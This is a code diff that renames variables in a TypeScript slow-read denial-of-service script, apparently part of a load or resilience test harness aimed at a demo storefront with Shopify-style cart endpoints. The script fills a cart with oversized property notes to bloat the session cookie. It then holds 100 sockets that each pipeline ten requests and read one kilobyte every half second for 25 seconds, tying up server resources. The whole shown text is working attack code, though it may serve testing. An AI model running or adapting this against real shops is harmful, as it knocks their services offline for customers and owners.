@@ -8,60 +8,60 @@ import { runAttack } from "./attack.ts";
 
 const CONNECTIONS = 100;
 /** Milliseconds between two reads, and duration of the attack. */
-const SIP_MS = 500;
+const READ_INTERVAL_MS = 500;
 const ATTACK_MS = 25_000;
 
 await runAttack({ products: "demo" }, async ({ origin }) => {
   const { host } = new URL(origin);
-  const cookie = await fullCart(origin);
-  const asks = ["/cart.js", "/collections/all", "/sitemap.xml", "/cart", "/search?q=a"].map(
+  const cookie = await fillCart(origin);
+  const requests = ["/cart.js", "/collections/all", "/sitemap.xml", "/cart", "/search?q=a"].map(
     (path) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nCookie: ${cookie}\r\n\r\n`,
   );
-  let closed = 0;
-  let open = 0;
+  let closedCount = 0;
+  let openCount = 0;
   const end = performance.now() + ATTACK_MS;
-  const read = async (number: number): Promise<void> => {
+  const readSlowly = async (number: number): Promise<void> => {
     while (performance.now() < end) {
-      const socket = slowSocket(origin);
-      open += 1;
+      const socket = openSlowSocket(origin);
+      openCount += 1;
       // Requests ten responses at once, and reads a kilobyte at long intervals.
-      socket.write((asks[number % asks.length] ?? "").repeat(10));
+      socket.write((requests[number % requests.length] ?? "").repeat(10));
       while (performance.now() < end && !socket.destroyed) {
-        await sleep(SIP_MS);
+        await sleep(READ_INTERVAL_MS);
         socket.read(1_024);
       }
-      if (socket.destroyed) closed += 1;
+      if (socket.destroyed) closedCount += 1;
       socket.destroy();
     }
   };
-  await Promise.all(Array.from({ length: CONNECTIONS }, (_, number) => read(number)));
-  return [`${open} connections were opened, ${closed} of them closed by the server`];
+  await Promise.all(Array.from({ length: CONNECTIONS }, (_, number) => readSlowly(number)));
+  return [`${openCount} connections were opened, ${closedCount} of them closed by the server`];
 });
 
 /** Opens a socket that reads only on request. */
-function slowSocket(origin: string): Socket {
+function openSlowSocket(origin: string): Socket {
   const { hostname, port } = new URL(origin);
   const socket = connect(Number(port), hostname);
   return socket.on("error", () => undefined).pause();
 }
 
 /** Creates a cart with the maximum number of lines of maximum length.  @returns its cookies */
-async function fullCart(origin: string): Promise<string> {
+async function fillCart(origin: string): Promise<string> {
   const client = createClient(origin);
   const { text } = await client.get("/search/suggest.json?q=a&resources[limit]=10");
-  const found = JSON.parse(text) as {
+  const suggestions = JSON.parse(text) as {
     readonly resources: { readonly results: { readonly products: readonly { readonly url: string }[] } };
   };
-  for (const { url } of found.resources.results.products) {
+  for (const { url } of suggestions.resources.results.products) {
     const product = (await client.get(`${url.split("?")[0]}.js`)).json<{
       readonly variants: readonly { readonly id: number }[];
     }>();
     const id = product.variants[0]?.id;
-    for (let turn = 0; turn < 20; turn += 1) {
+    for (let round = 0; round < 20; round += 1) {
       const items = Array.from({ length: 5 }, (_, line) => ({
         id,
         quantity: 1,
-        properties: { note: `${turn} ${line} ${"x".repeat(900)}` },
+        properties: { note: `${round} ${line} ${"x".repeat(900)}` },
       }));
       const { status } = await client.post("/cart/add.js", { items });
       if (status !== 200) break;
